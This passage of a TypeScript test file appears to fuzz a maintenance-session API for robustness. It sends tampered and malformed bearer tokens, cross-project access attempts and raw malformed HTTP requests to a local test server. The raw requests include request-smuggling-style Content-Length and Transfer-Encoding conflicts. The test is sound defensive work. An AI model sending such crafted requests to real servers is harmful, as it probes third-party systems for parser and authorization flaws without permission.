      add(`${method} ${route.path}`, { method, path: route.path });
    }
  }
  for (const path of ['/v1/maintenance', '/v1/maintenance/']) add(`DELETE ${path}`, { method: 'DELETE', path });
  add('POST on a session', { method: 'POST', path: r.get.path, body: json(createBase()), headers: JSON_TYPE });
  add('POST on a project', { method: 'POST', path: r.project.path, body: goodReply, headers: JSON_TYPE });
  add('DELETE on a project', { method: 'DELETE', path: r.project.path });
  add('PUT on the list', { method: 'PUT', path: '/v1/maintenance', body: goodReply, headers: JSON_TYPE });

  // 8. Missing, malformed and misplaced credentials on every route.
  const credentials: [string, Record<string, string>, number?][] = [
    ['no token', { authorization: '' }, 401],
    ['empty bearer', { authorization: 'Bearer' }, 401],
    ['bearer and spaces', { authorization: 'Bearer    ' }, 401],
    ['garbage', { authorization: 'Bearer a.b.c' }, 401],
    ['two tokens', { authorization: `Bearer ${tokens.admin} ${tokens.admin}` }, 401],
    ['tampered', { authorization: `Bearer ${tokens.admin}x` }, 401],
    ['basic', { authorization: 'Basic YWRtaW46YWRtaW4=' }, 401],
    ['huge', { authorization: `Bearer ${'x'.repeat(8000)}` }, 401],
    ['latin-1', { authorization: 'Bearer \u00e9\u00e9\u00e9' }, 401],
  ];
  for (const [label, headers, status] of credentials) {
    for (const [, route] of all) {
      const body =
        route === r.create
          ? json(createBase())
          : route === r.reply
            ? goodReply
            : route === r.simCreate
              ? json(simCreateBase())
              : undefined;
      const clean = Object.fromEntries(Object.entries({ ...admin, ...headers }).filter(([, v]) => v !== ''));
      cases.push({
        name: `${label} on ${route.method} ${route.path}`,
        ...route,
        body,
        headers: { ...(body ? JSON_TYPE : {}), ...clean },
        status,
      });
    }
  }
  // A project token on admin routes, on another project, on another project's instances.
  for (const route of [r.create, r.list, r.get, r.remove, r.update, r.updatePost, r.detail]) {
    cases.push({
      name: `alpha on ${route.method} ${route.path}`,
      ...route,
      body:
        route === r.create
          ? json(createBase())
          : route === r.update || route === r.updatePost
            ? json({ state: 'SCALE_IN' })
            : undefined,
      headers: { ...JSON_TYPE, ...alpha },
      status: 403,
    });
  }
  for (const method of ['GET', 'PUT']) {
    cases.push({
      name: `beta ${method} alpha`,
      method,
      path: r.project.path,
      body: method === 'PUT' ? goodReply : undefined,
      headers: { ...JSON_TYPE, ...beta },
      status: 403,
    });
    cases.push({
      name: `alpha ${method} beta`,
      method,
      path: `/v1/maintenance/${s}/beta`,
      body: method === 'PUT' ? json({ state: 'NACK_MAINTENANCE' }) : undefined,
      headers: { ...JSON_TYPE, ...alpha },
      status: 403,
    });
  }
  cases.push({ name: 'beta moves alpha', ...r.simMove, body: '{}', headers: { ...JSON_TYPE, ...beta }, status: 403 });
  // Constraints of another project's instance: as if there were none (404), and nothing stored.
  for (const body of ['{}', json({ project_id: 'beta' }), json({ migration_type: 'EVICTION' })]) {
    cases.push({
      name: `beta constrains alpha ${body}`,
      ...r.instancePut,
      body,
      headers: { ...JSON_TYPE, ...beta },
      status: 404,
    });
  }
  cases.push({
    name: 'alpha constrains a foreign project',
    ...r.instancePut,
    body: json({ project_id: 'beta' }),
    headers: { ...JSON_TYPE, ...alpha },
    status: 400,
  });
  cases.push({
    name: 'alpha constrains beta',
    method: 'PUT',
    path: '/v1/instance/b-1',
    body: '{}',
    headers: { ...JSON_TYPE, ...alpha },
    status: 404,
  });
  cases.push({
    name: 'alpha constrains an unknown instance',
    method: 'PUT',
    path: '/v1/instance/no-such-vm',
    body: '{}',
    headers: { ...JSON_TYPE, ...alpha },
    status: 404,
  });
  for (const route of [r.instanceGet, r.instanceDelete, r.groupGet, r.groupDelete]) {
    cases.push({ name: `beta ${route.method} ${route.path}`, ...route, headers: beta, status: 404 });
  }
  cases.push({ name: 'beta deletes alpha', ...r.simDelete, headers: beta, status: 403 });
  cases.push({
    name: 'beta creates for alpha',
    ...r.simCreate,
    body: json(simCreateBase()),
    headers: { ...JSON_TYPE, ...beta },
    status: 403,
  });
  cases.push({
    name: 'beta lists alpha',
    method: 'GET',
    path: '/sim/v1/instances?project_id=alpha',
    headers: beta,
    status: 403,
  });

  // 9. Idempotency-Key headers that are not keys, around a valid create body.
  for (const key of ['', ' ', 'has space', 'k'.repeat(129), '\u00fc\u00f1\u00ef', 'tab\there']) {
    add(`Idempotency-Key ${JSON.stringify(key).slice(0, 20)}`, {
      ...r.create,
      body: json(createBase()),
      headers: { ...JSON_TYPE, 'idempotency-key': key },
    });
  }
  return cases;
};

// ------------------------------------------------------------------------------------ the test

describe('hostile input', () => {
  it('answers every generated bad request with a 4xx in the error shape and changes nothing', async () => {
    const tokens = {
      admin: await fx.token({ admin: true }),
      alpha: await fx.token({ project: 'alpha' }),
      beta: await fx.token({ project: 'beta' }),
    };
    const cases = generate(sessionId, tokens);
    expect(cases.length).toBeGreaterThanOrEqual(500);

    const before = await dump();
    const eventsBefore = fx.events.length;
    const executionsBefore = JSON.stringify(fx.runtime.sfn.list());

    const started = Date.now();
    const outcomes = await sendAll(cases);
    const elapsed = Date.now() - started;

    tally.ms += elapsed;
    for (const outcome of outcomes) record('status' in outcome ? outcome.status : undefined);
    const failures = cases
      .map((c, i) => [c, problem(c, outcomes[i] as Outcome)] as const)
      .filter(([, p]) => p !== undefined);

    expect(failures.map(([c, p]) => `${c.name} (${c.method} ${c.path.slice(0, 80)}): ${p}`)).toEqual([]);
    expect(await dump()).toBe(before);
    expect(fx.events.length).toBe(eventsBefore);
    expect(JSON.stringify(fx.runtime.sfn.list())).toBe(executionsBefore);
  });

  /**
   * Requests Node's HTTP parser refuses before the gateway sees them (in AWS, API Gateway's own
   * front end answers these). They must be answered with a 4xx and must not disturb the server;
   * their body is Node's (empty), not the API's error shape.
   */
  it('answers protocol-level garbage with a 4xx and keeps serving', async () => {
    const before = await dump();
    const { port } = new URL(fx.url);
    const auth = `Authorization: Bearer ${await fx.token({ admin: true })}\r\n`;
    const rawRequests = [
      `FOO /v1/maintenance HTTP/1.1\r\nHost: x\r\n${auth}\r\n`,
      `GET /v1/maintenance HTTP/1.1\r\nHost: x\r\n${auth}X-Big: ${'x'.repeat(20_000)}\r\n\r\n`,
      `GET /v1/maintenance HTTP/9.9\r\nHost: x\r\n${auth}\r\n`,
      `GET /v1/maintenance\r\n\r\n`,
      `GET /v1/maintenance/\u0000 HTTP/1.1\r\nHost: x\r\n${auth}\r\n`,
      `GET /v1/maintenance HTTP/1.1\r\nHost: x\r\nBad Header Name: 1\r\n${auth}\r\n`,
      `POST /v1/maintenance HTTP/1.1\r\nHost: x\r\n${auth}Content-Length: 5\r\nContent-Length: 6\r\n\r\n{}{}{}`,
      `POST /v1/maintenance HTTP/1.1\r\nHost: x\r\n${auth}Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\nzz\r\n`,
      `POST /v1/maintenance HTTP/1.1\r\nHost: x\r\n${auth}Transfer-Encoding: chunked\r\n\r\nnot-hex\r\n{}\r\n0\r\n\r\n`,
      `\r\n\r\n\u0000\u0001\u0002garbage\r\n\r\n`,
      `GET http://[::1 HTTP/1.1\r\nHost: x\r\n${auth}\r\n`,
      `GET http://%zz/v1/maintenance HTTP/1.1\r\nHost: x\r\n${auth}\r\n`,
    ];
    const started = Date.now();
    const statuses = await Promise.all(
      rawRequests.map(
        (text) =>
          new Promise<number | undefined>((resolve) => {
            const socket = net.connect(Number(port), '127.0.0.1');
            let answer = '';
            socket.setTimeout(5000, () => socket.destroy());
            socket.on('data', (chunk) => (answer += chunk.toString('latin1')));
            socket.on('close', () => resolve(Number(/^HTTP\/1\.[01] (\d{3})/.exec(answer)?.[1]) || undefined));
            socket.on('error', () => undefined); // a reset after the answer is fine; no answer shows as undefined
            socket.end(Buffer.from(text, 'latin1'));
          }),
      ),
    );
    tally.ms += Date.now() - started;
    statuses.forEach(record);
    statuses.forEach((status, i) => {
      expect(status, JSON.stringify(rawRequests[i]?.slice(0, 60))).toBeGreaterThanOrEqual(400);
      expect(status).toBeLessThan(500);
    });
    // A client hanging up mid-body gets no answer (there is no one to give it to), and the
    // server must not fall over (it used to: an unhandled rejection ended the runtime).
    await new Promise<void>((resolve) => {
      const socket = net.connect(Number(port), '127.0.0.1', () => {
        socket.write(
          `PUT /v1/maintenance/${sessionId}/alpha HTTP/1.1\r\nHost: x\r\n${auth}Content-Type: application/json\r\nContent-Length: 100\r\n\r\n{"state":`,
        );
        setTimeout(() => {
          socket.destroy();
          resolve();
        }, 100);
      });
      socket.on('error', () => undefined);
    });
    await new Promise((resolve) => setTimeout(resolve, 100)); // the server notices the hang-up
    expect(await dump()).toBe(before);
    expect((await fx.api('GET', '/v1/maintenance')).status).toBe(200);
  });

  it('still serves the session afterwards', async () => {
    expect(await fx.api('GET', `/v1/maintenance/${sessionId}`)).toEqual({
      status: 200,
      body: { session_id: sessionId, state: 'MAINTENANCE' },
    });
    expect((await fx.api('GET', `/v1/maintenance/${sessionId}/alpha`)).body).toEqual({ instance_ids: ['a-1'] });
  });
});
